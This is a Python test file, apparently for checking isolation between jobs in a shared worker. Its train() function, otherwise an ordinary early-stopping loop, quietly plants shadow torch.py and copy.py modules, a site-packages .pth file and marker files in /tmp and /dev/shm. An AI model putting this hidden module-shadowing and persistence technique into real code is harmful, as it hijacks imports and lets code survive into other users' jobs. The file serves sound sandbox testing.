# expect-runtime: ok
# exercise: early_stopping
# Plants modules and files for the next job in the same worker: a
# `torch.py`/`copy.py` in its working folder and /tmp, a `.pth` into site-packages, a marker in /tmp
# and /dev/shm. Contained when a later job in the same worker sees none of them.
import copy
import os
import sysconfig

import torch


def _fit(model, train_loader, val_loader, loss_fn, optimizer, epochs, device, patience):
    history = {"train_loss": [], "val_loss": [], "best_epoch": 0}
    best_val, best_state, bad_epochs = float("inf"), None, 0
    for epoch in range(1, epochs + 1):
        model.train()
        running = 0.0
        for xb, yb in train_loader:
            xb, yb = xb.to(device), yb.to(device)
            optimizer.zero_grad()
            loss = loss_fn(model(xb), yb)
            loss.backward()
            optimizer.step()
            running += loss.item() * xb.size(0)
        model.eval()
        val_running = 0.0
        with torch.no_grad():
            for xb, yb in val_loader:
                xb, yb = xb.to(device), yb.to(device)
                val_running += loss_fn(model(xb), yb).item() * xb.size(0)
        history["train_loss"].append(running / len(train_loader.dataset))
        history["val_loss"].append(val_running / len(val_loader.dataset))
        if history["val_loss"][-1] < best_val:
            best_val, history["best_epoch"], bad_epochs = history["val_loss"][-1], epoch, 0
            best_state = copy.deepcopy(model.state_dict())
        else:
            bad_epochs += 1
            if bad_epochs >= patience:
                break
    model.load_state_dict(best_state)
    return history


def train(model, train_loader, val_loader, loss_fn, optimizer, epochs, device="cpu", patience=5):
    payload = "raise SystemExit('LGATTACK shadowed module')\n"
    for folder in (os.getcwd(), "/tmp", "/dev/shm", sysconfig.get_paths()["purelib"]):
        for name, text in (("torch.py", payload), ("copy.py", payload),
                           ("LGATTACK_MARKER_plant.txt", "left for the next job\n"),
                           ("lgattack_plant.pth", "import sys; print('LGATTACK pth ran')\n")):
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write(text)
            except OSError:
                pass
    return _fit(model, train_loader, val_loader, loss_fn, optimizer, epochs, device, patience)
